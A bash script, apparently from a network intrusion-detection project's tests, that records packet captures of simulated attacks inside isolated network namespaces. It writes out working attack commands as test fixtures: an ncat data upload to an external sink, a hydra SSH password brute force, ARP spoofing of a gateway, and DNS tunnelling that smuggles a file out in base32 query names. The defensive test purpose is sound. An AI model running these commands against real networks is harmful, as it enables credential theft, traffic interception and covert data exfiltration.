#!/usr/bin/env bash
# Records the project's own captures of real tools between network namespaces, for cases the
# shared reference captures lack (see tests/traces/README.md). Run as root:
#   tests/traces/record.sh OUT_DIR [CASE...]
# CASE is one of exfil hydra arpspoof benign dig_tunnel slow_tunnel provider_names
# exfil_baseline (default: all).
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
out=$(mkdir -p "${1:?usage: record.sh OUT_DIR [CASE...]}" && cd "$1" && pwd)
shift
cases=("$@")
[ ${#cases[@]} -gt 0 ] || cases=(exfil hydra arpspoof benign dig_tunnel slow_tunnel provider_names exfil_baseline)
LAB_PREFIX=rec$$
source "$here/../e2e/netns.sh"
w=$(mktemp -d)
trap 'lab_down; rm -rf "$w"' EXIT
lab_up
victim=10.231.1.10 gateway=10.231.1.1 web=203.0.113.20 dns=203.0.113.53

capture() {  # capture NAME SNAPLEN FILTER — starts tcpdump on the monitored host
  # exec: $! must be tcpdump itself, or stop_capture would only end a subshell.
  (exec ip netns exec "$(lab_ns lan)" tcpdump -i eth0 -s "$2" -U -w "$out/$1.pcap" "$3" >/dev/null 2>&1) &
  cap_pid=$!
  sleep 1
}
stop_capture() { sleep 1; kill "$cap_pid"; wait "$cap_pid" 2>/dev/null || true; }
dns_started=0
start_dns() {  # one dnsmasq on the external DNS address, answering the lab's names
  [ "$dns_started" -eq 0 ] || return 0
  in_ns ext dnsmasq --no-daemon --no-resolv --no-hosts --listen-address="$dns" --bind-interfaces \
    --address=/lab.example/203.0.113.20 --address=/amazonaws.com/203.0.113.20 \
    --address=/azure.com/203.0.113.20 --address=/windows.net/203.0.113.20 \
    --address=/googlevideo.com/203.0.113.20 >/dev/null 2>&1 &
  dns_started=1
  sleep 1
}

case_exfil() {
# 1. exfiltration: 6.5 MB uploaded from the monitored host to an external sink in 2–3 s.
in_ns ext sh -c "ncat -l $web 9000 >/dev/null" &
sleep 0.5
head -c 6500000 /dev/urandom >"$w/secret.bin"
capture exfil_ncat_6.5MB_upload 96 "tcp port 9000"
in_ns lan ncat -w 5 --send-only "$web" 9000 <"$w/secret.bin" || true
stop_capture
}

case_hydra() {
# 2. brute force: hydra with 48 tasks against sshd allowing one password per connection.
ssh-keygen -q -t ed25519 -N '' -f "$w/hk"; mkdir -p /run/sshd
in_ns lan /usr/sbin/sshd -f /dev/null -h "$w/hk" -o ListenAddress=$victim -o MaxAuthTries=1 \
  -o MaxStartups=200:30:300 -o PidFile="$w/sshd.pid" -o UsePAM=no
printf '%s\n' $(seq -f 'password%g' 1 300) >"$w/pw"
capture hydra_ssh_48tasks 128 "tcp port 22"
(cd "$w" && in_ns atk timeout 20 hydra -l tester -P "$w/pw" -t 48 -I "ssh://$victim" >/dev/null 2>&1) || true
stop_capture
}

case_arpspoof() {
# 3. ARP spoofing with a baseline: the victim first learns the real gateway, then arpspoof
#    from an on-link host claims the gateway's address.
capture arpspoof_with_baseline 128 "arp or icmp"
in_ns lan ip neigh flush all
in_ns lan ping -c 2 -W 1 "$gateway" >/dev/null
in_ns mitm timeout 5 arpspoof -i eth0 -t "$victim" "$gateway" >/dev/null 2>&1 || true
stop_capture
}

case_benign() {
# 4. benign: page downloads and DNS lookups from the monitored host for 20 s.
mkdir -p "$w/www"; head -c 50000 /dev/urandom >"$w/www/page.bin"
in_ns ext python3 -m http.server 8000 --bind "$web" --directory "$w/www" >/dev/null 2>&1 &
start_dns
capture benign_lab_web_dns 96 "not arp"
end=$((SECONDS + 20))
while [ $SECONDS -lt $end ]; do
  in_ns lan curl -s -o /dev/null "http://$web:8000/page.bin"
  in_ns lan dig +short +tries=1 +time=1 @"$dns" "www$((RANDOM % 9)).lab.example" >/dev/null
  sleep 0.3
done
stop_capture
}

case_dig_tunnel() {
# 5. DNS tunnelling: random 60-character labels under one domain, TXT queries, with dig.
capture dig_long_label_tunnel 256 "udp port 53"
for i in $(seq 1 20); do
  label=$(head -c 60 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z' | head -c 60)
  in_ns lan dig +short +tries=1 +time=1 @"$dns" "$label.t$i.tunnel.lab.example" TXT >/dev/null || true
done
stop_capture
}

case_slow_tunnel() {
# 6. a slow DNS tunnel: a compressed file sent as 30-character base32 chunks, one A query every
#    10 s. Each name holds 34-36 characters below lab.example, under the original's 50.
start_dns
gzip -9c /etc/services | base32 -w0 | tr -d '=' | tr 'A-Z' 'a-z' | fold -w 30 | head -n 20 >"$w/chunks"
capture slow_dns_tunnel_base32 256 "udp port 53"
i=0
while read -r chunk; do
  i=$((i + 1))
  in_ns lan dig +short +tries=1 +time=1 @"$dns" "$chunk.$i.x.lab.example" A >/dev/null || true
  sleep 10
done <"$w/chunks"
stop_capture
}

case_provider_names() {
# 7. benign long provider names: load-balancer, bucket and cloud-service host names with 45-62
#    characters below their registered domain (A and AAAA, asked again as caches expire), plus
#    40 distinct video-cache names under one provider.
start_dns
capture provider_long_names_BENIGN 256 "udp port 53"
for round in 1 2 3; do
  for name in internal-my-application-load-balancer-1234567890.us-west-2.elb.amazonaws.com \
      company-assets-production-bucket.s3.dualstack.eu-central-1.amazonaws.com \
      prod-eu-west-1-starscream-session-recording-bucket.s3.amazonaws.com \
      a-very-long-service-name-for-the-frontend.westeurope.cloudapp.azure.com \
      wd-prod-cp-eu-north-2-fe.northeurope.cloudapp.azure.com \
      storage-account-backup-2023-archive-tier.blob.core.windows.net; do
    in_ns lan dig +short +tries=1 +time=1 @"$dns" "$name" A >/dev/null || true
    in_ns lan dig +short +tries=1 +time=1 @"$dns" "$name" AAAA >/dev/null || true
  done
  sleep 2
done
for i in $(seq 1 40); do
  node=$(head -c 5 /dev/urandom | base32 | tr 'A-Z' 'a-z' | tr -d '=' | head -c 8)
  in_ns lan dig +short +tries=1 +time=1 @"$dns" "rr$((i % 9 + 1))---sn-$node.googlevideo.com" A >/dev/null || true
  sleep 0.2
done
stop_capture
}

case_exfil_baseline() {
# 8. uploads against each host's own baseline, 10 minutes, two hosts at once:
#    10.231.1.10 uploads 4 MB every minute for 7 minutes, then 6.5 MB a minute for 3 (a backup
#    that grows: over the original's 5 MB, under 4 times its usual volume);
#    10.231.1.66 uploads 0.8 MB a minute for 7 minutes, then 4.5 MB in 40 s (under the
#    original's 5 MB, over 4 times its usual volume).
#    Segmentation offload is turned on for these two hosts so the captures hold ~64 KB segments.
cat >"$w/pace.py" <<'PY'
import socket, sys, time
host, port, plan = sys.argv[1], int(sys.argv[2]), sys.argv[3]
s = socket.create_connection((host, port))
chunk = b"\x5a" * 65536
for step in plan.split(","):  # SECONDS:BYTES_PER_SECOND
    seconds, rate = (int(x) for x in step.split(":"))
    for _ in range(seconds):
        t = time.monotonic()
        left = rate
        while left > 0:
            left -= s.send(chunk[:min(left, len(chunk))])
        time.sleep(max(0.0, 1.0 - (time.monotonic() - t)))
s.close()
PY
in_ns ext sh -c "ncat -l -k $web 9100 >/dev/null" &
in_ns ext sh -c "ncat -l -k $web 9002 >/dev/null" &
sleep 0.5
for h in lan mitm; do in_ns "$h" ethtool -K eth0 tx on tso on gso on >/dev/null 2>&1 || true; done
capture exfil_baseline_growing_backup_BENIGN 96 "tcp port 9100"
(exec ip netns exec "$(lab_ns mitm)" tcpdump -i eth0 -s 96 -U -w "$out/exfil_baseline_jump_4.5MB.pcap" "tcp port 9002" >/dev/null 2>&1) &
cap2_pid=$!
sleep 1
in_ns lan python3 "$w/pace.py" "$web" 9100 "420:66667,180:108334" &
a_pid=$!
in_ns mitm python3 "$w/pace.py" "$web" 9002 "420:13334,40:112500" &
b_pid=$!
wait "$a_pid" "$b_pid" || true
kill "$cap2_pid"; wait "$cap2_pid" 2>/dev/null || true
stop_capture
for h in lan mitm; do in_ns "$h" ethtool -K eth0 tx off >/dev/null 2>&1 || true; done
}

for c in "${cases[@]}"; do "case_$c"; done
ls -l "$out"
